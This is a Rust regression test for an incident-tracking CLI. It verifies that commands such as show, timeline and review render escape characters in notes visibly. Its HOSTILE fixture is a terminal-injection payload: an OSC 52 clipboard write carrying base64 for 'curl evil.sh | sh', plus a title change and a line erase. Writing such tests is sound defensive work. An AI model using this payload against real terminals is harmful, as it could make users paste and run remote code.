//! Regression: notes and action items accepted ESC, BEL and NUL, and `show`,
//! `timeline` and the other commands printed them raw, so a note could write the reader's
//! clipboard (OSC 52), retitle the terminal or erase lines. Every command that prints incident
//! text now shows control characters visibly (`^[`, `^G`, `^@`) and never emits them.

use crate::support::Fb;

/// OSC 52 clipboard write, a title change, a line erase and a bell.
const HOSTILE: &str =
    "rolled back\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07 \x1b]0;pwned\x07\x1b[2K\x1b[1A done";

fn printed(fb: &Fb, args: &[&str]) -> String {
    let out = fb.cmd(args).output().expect("run");
    assert!(
        out.status.success(),
        "{args:?}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    for bad in [0x1b_u8, 0x07, 0x00] {
        assert!(
            !out.stdout.contains(&bad),
            "{args:?} printed raw control byte {bad:#04x}: {:?}",
            String::from_utf8_lossy(&out.stdout)
        );
    }
    String::from_utf8(out.stdout).expect("utf-8")
}

#[test]
fn incident_text_reaches_the_terminal_inert() {
    let fb = Fb::init();
    let id = fb.declare("Checkout returns 502", "P2");
    fb.cmd(&["note", &id, HOSTILE]).assert().success();
    fb.cmd(&["action", "add", &id, HOSTILE]).assert().success();
    let shown = "rolled back^[]52;c;Y3VybCBldmlsLnNoIHwgc2g=^G ^[]0;pwned^G^[[2K^[[1A done";
    for args in [vec!["show", id.as_str()], vec!["timeline", id.as_str()]] {
        let text = printed(&fb, &args);
        assert!(text.contains(shown), "{args:?}: {text}");
    }
    // The listing clips long items; what it keeps is inert too.
    let actions = printed(&fb, &["action", "ls", &id]);
    assert!(actions.contains("rolled back^[]52;c;"), "{actions}");
    let review = printed(&fb, &["review", &id]);
    assert!(review.contains(shown), "{review}");
    printed(&fb, &["ls"]);
    printed(&fb, &["report", "--since", "30d"]);
}
